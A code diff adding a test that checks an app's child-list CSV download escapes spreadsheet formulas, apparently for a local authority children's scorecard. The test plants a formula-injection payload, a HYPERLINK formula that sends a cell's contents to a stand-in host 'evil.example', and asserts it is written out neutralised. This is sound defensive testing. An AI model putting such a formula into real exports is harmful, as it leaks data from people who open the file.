@@ -1,6 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
 import { readAudit } from './audit/audit-log.js';
 import { addUser } from './auth/users.js';
 import { createFakeServices } from './testing/fake-services.js';
@@ -553,4 +554,36 @@ test("the public view suppresses small numbers by the LA's settings (suppression
   const card5 = await (await (await signIn(plain.app, 'member')).get(`/scorecard?${Q}`)).text();
   assert.match(new RegExp(`href="/indicators/cic-missing\\?[^"]*"[\\s\\S]*?</tr>`).exec(card5)![0], />8</);
   assert.match(card5, /92\.0%/);
+});
+
+// A child id comes from the input files: the CSV download writes it formula-safe (src/csv/spreadsheet-csv.ts),
+// a leading quote before = + - @, so a spreadsheet shows it and never runs it; other rows are unchanged.
+test('the child-list CSV download neutralises a child id a spreadsheet would run as a formula', async () => {
+  const fake = createFakeServices();
+  const hostile = '=HYPERLINK("https://evil.example/?"&B2,"Open")';
+  const services = {
+    ...fake,
+    async members(la: string, period: string, id: string) {
+      const list = await fake.members(la, period, id);
+      if (!list) return null;
+      const [first, ...rest] = list.members;
+      const children = new Map(list.children);
+      children.set(hostile, list.children.get(first!.childId)!);
+      return {
+        ...list,
+        members: [{ ...first!, childId: hostile, reason: '-1 day late' }, ...rest],
+        children,
+      };
+    },
+  };
+  const { app } = await testApp(services);
+  const manager = await signIn(app, 'manager');
+  const r = await manager.get(`/indicators/assessments-45wd/children.csv?${Q}`);
+  assert.equal(r.status, 200);
+  const rows = parse(await r.text()) as string[][];
+  assert.equal(rows[0]![0], 'child');
+  assert.equal(rows[1]![0], `'${hostile}`);
+  assert.equal(rows[1]!.at(-1), "'-1 day late");
+  assert.match(rows[2]![0]!, /^C\d{5}$/, 'an ordinary child id is unchanged');
+  assert.match(rows[2]![1]!, /^\d{4}-\d{2}-\d{2}$/, 'a date of birth is unchanged');
 });
